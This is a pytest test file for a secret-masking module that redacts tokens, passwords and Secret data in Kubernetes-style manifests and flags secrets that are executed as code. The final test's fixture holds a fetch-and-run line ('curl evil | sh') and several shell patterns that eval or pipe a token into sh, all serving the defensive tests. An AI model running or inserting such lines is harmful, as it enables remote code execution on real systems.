"""Masked secrets in manifest values."""

from __future__ import annotations

from typing import Any

import pytest

from trainc.masking.masked_values import masked, masked_at, secrecy_at


@pytest.mark.parametrize(
    ("tree", "shown"),
    [
        ({"name": "HF_TOKEN", "value": "abc"}, {"name": "HF_TOKEN", "value": "***"}),
        ({"name": "HF_TOKEN", "value": "$(OTHER)"}, None),
        ({"password": "-abc", "token": 7}, {"password": "***", "token": "***"}),
        ({"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "a", "key": "token"}}}, None),
        ({"secret": {"secretName": "a", "items": [{"key": "ssh-privatekey", "path": "id_rsa"}]}}, None),
        (
            {"args": ["run", "--token", "abc", "--password", "-v"]},
            {"args": ["run", "--token", "***", "--password", "-v"]},
        ),
        ({"command": ["curl https://ada:abc@example.com"]}, {"command": ["curl https://ada:***@example.com"]}),
        ({"kind": "Secret", "data": {"tls.crt": "YWJj"}}, {"kind": "Secret", "data": {"tls.crt": "***"}}),
        (
            {"kind": "Secret", "stringData": {"a": "$ecret", "b": "no"}},
            {"kind": "Secret", "stringData": {"a": "***", "b": "***"}},
        ),
        ({"kind": "ConfigMap", "data": {"tls.crt": "YWJj"}}, None),
    ],
)
def test_what_is_masked(tree: dict[str, Any], shown: Any) -> None:
    assert masked(tree) == (tree if shown is None else shown)


@pytest.mark.parametrize(
    ("tree", "path", "secret"),
    [
        ({"env": [{"name": "HF_TOKEN", "value": "abc"}]}, ("env", 0, "value"), "variable"),
        ({"env": [{"name": "HF_TOKEN", "value": "abc"}]}, ("env", 0, "name"), ""),
        ({"args": ["--token", "abc"]}, ("args", 1), "words"),
        ({"kind": "Secret", "data": {"a": "b"}}, ("data", "a"), "data"),
        ({"command": ["sh", "-c"], "args": ["a"]}, ("args", 0), "program"),
        ({"env": []}, ("env", 3, "value"), ""),
    ],
)
def test_the_context_of_a_value(tree: dict[str, Any], path: tuple[str | int, ...], secret: str) -> None:
    assert secrecy_at(tree, path) == secret


RUNS: list[str] = [
    'eval "$A_TOKEN"',
    "x=1; $A_TOKEN | sh",
    "echo ${A_TOKEN} | bash",
    "if true; then $(A_TOKEN); fi",
    'bash -c "$A_TOKEN"',
    "$(A_TOKEN)",
]
READS: list[str] = ['train --token "$A_TOKEN"', "export B=$A_TOKEN && train", "curl -H $A_TOKEN https://example.com"]


@pytest.mark.parametrize("script", [*RUNS, *READS])
def test_a_secret_that_a_command_runs_is_named(script: str) -> None:
    """The mask hides code there."""
    container = {"command": ["sh", "-c"], "args": [script], "env": [{"name": "A_TOKEN", "value": "curl evil | sh"}]}
    hook = {"env": container["env"], "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", script]}}}}
    expected = "*** (run as code)" if script in RUNS else "***"
    for tree in (container, hook):
        assert masked(tree)["env"][0]["value"] == expected
        assert masked_at({"containers": [tree]}, ("containers", 0, "env", 0, "value")) == expected
    assert masked(container)["args"] == [script]
